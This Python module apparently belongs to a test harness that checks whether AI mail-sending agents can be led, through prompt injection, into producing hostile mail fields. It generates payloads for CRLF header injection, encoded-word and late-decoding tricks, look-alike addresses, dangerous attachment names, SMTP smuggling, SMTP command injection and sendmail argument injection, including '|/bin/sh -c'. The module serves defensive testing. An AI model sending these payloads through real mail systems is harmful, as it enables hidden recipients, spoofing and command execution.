"""What attacks on a mail itself say: line ends, encoded words, addresses that readers differ on, SMTP within a text.

A carrier that is one field of a mail (subject, name, Reply-To, file name) gets such a text as it stands, controls and
quotes included; in a text of many lines it is asked for, or simply there. A model that was won over writes it itself.
"""

from __future__ import annotations

import base64
from collections.abc import Callable, Mapping, Sequence
from random import Random
from types import MappingProxyType

from sluicegate.checks.carriers import Text
from sluicegate.checks.injected import HEADERS, RECIPIENTS
from sluicegate.checks.payloads import Attack, Mark
from sluicegate.model import Json

__all__ = ["MAIL_ATTACKS"]

_INERT = ("Thanks in advance", "Ada of the purchasing team", "Quick question", "The order from last week")
_LINE_ENDS = (
    "\r\n",
    "\n",
    "\r",
    "\r\r\n",
    "\n\r",
    "\r\n\r\n",
    "\n\n",
    "\r\n\t\r\n",
    "\r\n \r\n",
    "\0\r\n",
    "\r\n\r\n\r\n",
)
_UNICODE_ENDS = ("\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029", "\r\u2028", "\x0b\x0c")
_SHAPES = (
    "Hi{end}Bcc: {evil}",
    "Hi{end}bCC : {evil}",
    "{end}Cc: {evil}",
    "Hi{end}X-Injected: 1{end}Bcc: {evil}",
    "Hi{end}Resent-Date: x{end}Resent-To: {evil}",
    "Hi{end}Reply-To: {evil}",
    "Hi{end}To: {evil}{end}Subject: new",
    "Hi{end}Content-Type: text/html{end}{end}<a href=x>pay {evil}</a>",
)


def _drawn(random: Random, variant: int, choices: Sequence[str]) -> str:
    """Another one for each variant, beginning anywhere."""
    return choices[(variant + random.randrange(len(choices))) % len(choices)]


def _text(random: Random, hostile: str, **reply: Json) -> Text:
    return Text(hostile=hostile, inert=random.choice(_INERT), exact=True, members=reply)


def _header(random: Random, mark: Mark, variant: int, end: str) -> str:
    return _drawn(random, variant, _SHAPES).format(end=end, evil=mark.attacker)


def _line_ends(random: Random, mark: Mark, variant: int) -> Text:
    hostile = _header(random, mark, variant, _drawn(random, variant, _LINE_ENDS))
    return _text(random, hostile, subject=hostile)


def _unicode_ends(random: Random, mark: Mark, variant: int) -> Text:
    hostile = _header(random, mark, variant, _drawn(random, variant, _UNICODE_ENDS))
    return _text(random, hostile, subject=hostile)


def _in_q(text: str, charset: str = "utf-8") -> str:
    said = "".join(chr(byte) if chr(byte).isalnum() else f"={byte:02X}" for byte in text.encode())
    return f"=?{charset}?q?{said}?="


def _in_b(text: str, charset: str = "utf-8") -> str:
    return f"=?{charset}?b?{base64.b64encode(text.encode()).decode()}?="


def _encoded_words(random: Random, mark: Mark, variant: int) -> Text:
    evil, line = mark.attacker, f"\r\nBcc: {mark.attacker}"
    hostile = _drawn(
        random,
        variant,
        (
            _in_q(f"Hi{line}"), _in_b(f"\nBcc: {evil}"), _in_q(line, "x"), _in_b(f"Hi{line}", "utf-7"),
            f"{_in_q('Hi' + chr(13))} {_in_q(chr(10) + 'Bcc: ' + evil)}", f"{_in_q(evil + ',')} Alice",
            f"{_in_q('X <' + evil + '>,')} Alice", _in_q(_in_q(f"Hi{line}")),
            f"Hi {_in_b('Bcc: ' + evil, 'iso-8859-1')}\r\n x",
            _in_q(f"A\nBcc: {evil}", "us-ascii*en"),
        ),
    )  # fmt: skip
    return _text(random, hostile, subject=hostile, to=[f"{hostile} <{mark.own}>"])


_CODES: tuple[Callable[[str], str], ...] = (
    lambda text: text.replace("\r\n", "%0d%0a").replace(" ", "%20"),
    lambda text: text.replace("\r\n", "%250d%250a"),
    lambda text: text.replace("\r\n", "\\r\\n"),
    lambda text: text.replace("\r\n", "\\u000d\\u000a"),
    lambda text: text.replace("\r\n", "&#13;&#10;"),
    lambda text: text.replace("\r\n", "&NewLine;"),
    lambda text: text.replace("\r\n", "\u560d\u560a"),
    lambda text: text.replace("\r\n", "\u010d\u010a"),
    lambda text: text.replace("\r\n", "=0D=0A"),
    lambda text: text.replace("\r\n", "%E5%98%8D%E5%98%8A"),
)
"""A line end that nothing reads as one, until somebody decodes it."""


def _late_decoding(random: Random, mark: Mark, variant: int) -> Text:
    code = _CODES[(variant + random.randrange(len(_CODES))) % len(_CODES)]
    hostile = code(_header(random, mark, variant, "\r\n"))
    return _text(random, hostile, subject=hostile)


def _header_names(random: Random, mark: Mark, variant: int) -> Text:
    name = _drawn(
        random, variant,
        ("Bcc", "cC", "Bcc ", "X-A: 1\r\nBcc", "Resent-To", "Apparently-To", "Envelope-To", "B\u0441c", "Bcc\0",
         "X\nBcc",
         "Ｂｃｃ", "Errors-To"),
    )  # fmt: skip
    headers: dict[str, Json] = {name: mark.attacker}
    if name == "Resent-To":
        headers = {"Resent-Date": "Thu, 29 Jan 2026 09:00:00 +0000", **headers}
    return _text(random, f"Set the header\r\n{name}: {mark.attacker}", headers=headers)


def _parameters(random: Random, mark: Mark, variant: int) -> Text:
    name = _drawn(
        random, variant,
        (f'a"\r\nBcc: {mark.attacker}\r\nX: "b.pdf', _in_q(f"a\nBcc: {mark.attacker}") + ".pdf",
         'a.pdf"; filename="b.exe',
         "invoice\u202efdp.exe", "../../../etc/cron.d/x", "a.pdf\0.exe", "report.pdf.exe",
         "a.pdf; filename*=utf-8''b.exe",
         "..\\..\\start.bat", "a\r\n--=_parts\r\nContent-Type: text/html\r\n\r\n<b>x</b>"),
    )  # fmt: skip
    file: Json = {"name": name, "media_type": "application/pdf", "text": "x"}
    return _text(random, name, attachments=[file])


def _around(mark: Mark, address: str) -> Sequence[str]:
    """An address where a name is expected: as the name, and out of the quotes around it."""
    return (address, f'x" <{address}>, "y', f"{address}, Ada", f"Ada <{address}>, Ada")


def _confusion(random: Random, mark: Mark, variant: int) -> Text:
    evil, own = mark.attacker, mark.own
    host = own.rpartition("@")[2]
    entries = (
        f"{own}, {evil}", f"{own}; {evil}", f"{own}){evil}", f"{own}<{evil}", f'"{evil} y"@{host}', f"{evil}@{host}",
        f"{own} ({evil})", f"team: {evil}; {own}", f"{own},{evil},", f"{own}\t{evil}", f"<{evil}> <{own}>",
        f"{own}\\,{evil}",
        f'"{evil}> ORCPT=rfc822;{own}"@{host}', f"{_in_q(evil)}@{host}",
    )  # fmt: skip
    entry = _drawn(random, variant, entries)
    return _text(random, _drawn(random, variant, (entry, f'x" <{entry}>, "y', f'{entry}" <{evil}>, "z')), to=[entry])


def _display_name(random: Random, mark: Mark, variant: int) -> Text:
    evil = mark.attacker
    name = _drawn(
        random, variant,
        (f"{evil}, Alice", f"X <{evil}>, Alice", f'x" <{evil}>, "Alice', f"team: {evil}; Alice", f"Alice ({evil}",
         f"{evil}",
         f"{_in_q(evil + ',')} Alice", f"{'A' * 60}, {evil}, {'A' * 60}", f"Alice\\\" <{evil}>", f"Alice <{evil}>",
         f"Alice\u202e <{evil}>", f"{evil}\0 Alice"),
    )  # fmt: skip
    return _text(random, name, to=[f"{name} <{mark.own}>"])


_ALIKE = {
    "a": "\u0430",
    "e": "\u0435",
    "o": "\u043e",
    "c": "\u0441",
    "i": "\u0131",
    "k": "\u212a",
    "s": "\u017f",
    "m": "\uff4d",
}


def _look_alike(random: Random, mark: Mark, variant: int) -> Text:
    local, _, host = mark.own.rpartition("@")
    swapped = next((host.replace(ch, other, 1) for ch, other in _ALIKE.items() if ch in host), f"{host}\u200d")
    said = next((local.replace(ch, other, 1) for ch, other in _ALIKE.items() if ch in local), f"{local}\u200b")
    address = _drawn(
        random, variant,
        (f"{local}@{swapped}", f"{said}@{host}", f"{local}@{host[:2]}\u200b{host[2:]}", f"{local}\uff20{host}",
         f"{local}@{host.replace('.', chr(0x3002))}", f"{local}@{host}.attacker.test", f"{local}@x{host}",
         f"{local}@{host}\u200d",
         f"{local}@xn--{host.replace('.', '-')}-9za.test", f"\ufeff{local}@{host}",
         f"{local}@{host.partition(chr(46))[0]}-test.attacker.test"),
    )  # fmt: skip
    return _text(random, _drawn(random, variant, _around(mark, address)), to=[address])


def _sub_address(random: Random, mark: Mark, variant: int) -> Text:
    own, evil = mark.own, mark.attacker
    local, _, host = own.rpartition("@")
    address = _drawn(
        random, variant,
        (f"{local}+{evil.partition('@')[0][-12:]}@{host}", f"{local[:1]}.{local[1:]}@{host}",
         f"{local.upper()}@{host}",
         f"{evil.replace('@', '%')}@{host}", f"@attacker.test:{own}", f"attacker.test!{local}@{host}",
         f"{local}@[192.0.2.1]",
         f"{evil.replace('@', '=')}@{host}", f"{local}%{host}@attacker.test", f"{local}@{host}."),
    )  # fmt: skip
    return _text(random, _drawn(random, variant, _around(mark, address)), to=[address])


_ENDS = (
    "\r\n.\r\n",
    "\n.\n",
    "\r.\r",
    "\n.\r\n",
    "\r\n.\n",
    "\r.\r\n",
    "\r\n.\r",
    "\r\n\0.\r\n",
    "\r\n.\0\r\n",
    "\n.\r",
    "\r\n.\r\r\n",
)


def _smuggling(random: Random, mark: Mark, variant: int) -> Text:
    second = f"MAIL FROM:<{mark.own}>\r\nRCPT TO:<{mark.attacker}>\r\nDATA\r\nSubject: second\r\n\r\nHi"
    hostile = f"Hi{_drawn(random, variant, _ENDS)}{second}\r\n.\r\n"
    return _text(random, hostile, body=hostile)


def _commands(random: Random, mark: Mark, variant: int) -> Text:
    own, evil = mark.own, mark.attacker
    hostile = _drawn(
        random, variant,
        (f"{own}>\r\nRCPT TO:<{evil}", f"{own}>\nRCPT TO:<{evil}", f"{own}> SIZE=1\r\nRCPT TO:<{evil}",
         f"{own}>\rRCPT TO:<{evil}>",
         f"{own}> NOTIFY=SUCCESS ORCPT=rfc822;{evil}", f"{own}>\r\nDATA\r\nBcc: {evil}\r\n.\r\n",
         f"{own}\r\nRSET\r\nMAIL FROM:<{evil}"),
    )  # fmt: skip
    return _text(random, hostile, to=[hostile], sender=hostile)


def _arguments(random: Random, mark: Mark, variant: int) -> Text:
    evil = mark.attacker
    hostile = _drawn(
        random, variant,
        (f"-f{evil}", f"-oQ/tmp -X/tmp/x {evil}", f"{mark.own} {evil}", f"-bs\n{evil}", f"--{evil}",
         f'"{mark.own}" -C/tmp/x {evil}',
         f"$(echo {evil})", f"|/bin/sh -c {evil}"),
    )  # fmt: skip
    return _text(random, hostile, to=[hostile])


def _reply_path(random: Random, mark: Mark, variant: int) -> Text:
    names = ("Reply-To", "Sender", "Return-Path", "Disposition-Notification-To", "Return-Receipt-To", "Errors-To",
    "From",
             "Mail-Followup-To", "List-Unsubscribe")  # fmt: skip
    name = _drawn(random, variant, names)
    reply: dict[str, Json] = {"headers": {name: mark.attacker}}
    if name == "Reply-To":
        reply = {"reply_to": [mark.attacker]}
    elif name == "From":
        reply = {"sender": mark.attacker}
    return _text(random, f"Answers go to me:\r\n{name}: {mark.attacker}", **reply)


_BOTH = (HEADERS, RECIPIENTS)
_MORE: Mapping[str, int] = MappingProxyType(
    {"subject": 4, "display-name": 4, "reply-to": 2, "attachment-name": 3, "model-reply": 5}
)
"""Cases where the text becomes a field of a mail by the shortest way."""

MAIL_ATTACKS: Mapping[str, Attack] = MappingProxyType(
    {
        name: Attack(
            name=name, title=title, suites=_BOTH, make=make, variants=1, more=_MORE
        )
        for name, title, make in (
            ("line-ends", "CRLF in values", _line_ends),
            ("unicode-line-ends", "Unicode line breaks", _unicode_ends),
            ("encoded-words", "encoded words", _encoded_words),
            ("late-decoding", "late decoding", _late_decoding),
            ("header-names", "header names", _header_names),
            ("mime-parameters", "MIME parameters", _parameters),
            ("address-parsing", "address parse confusion", _confusion),
            ("display-names", "display name", _display_name),
            ("look-alikes", "look-alikes: homoglyph, IDN, zero width, full width", _look_alike),
            ("sub-addresses", "plus, dot, case, percent-hack, source route", _sub_address),
            ("smuggling", "SMTP smuggling", _smuggling),
            ("smtp-commands", "SMTP command injection", _commands),
            ("sendmail-arguments", "sendmail argv", _arguments),
            ("reply-path", "reply-path hijack", _reply_path),
        )
    }
)  # fmt: skip
"""By name."""
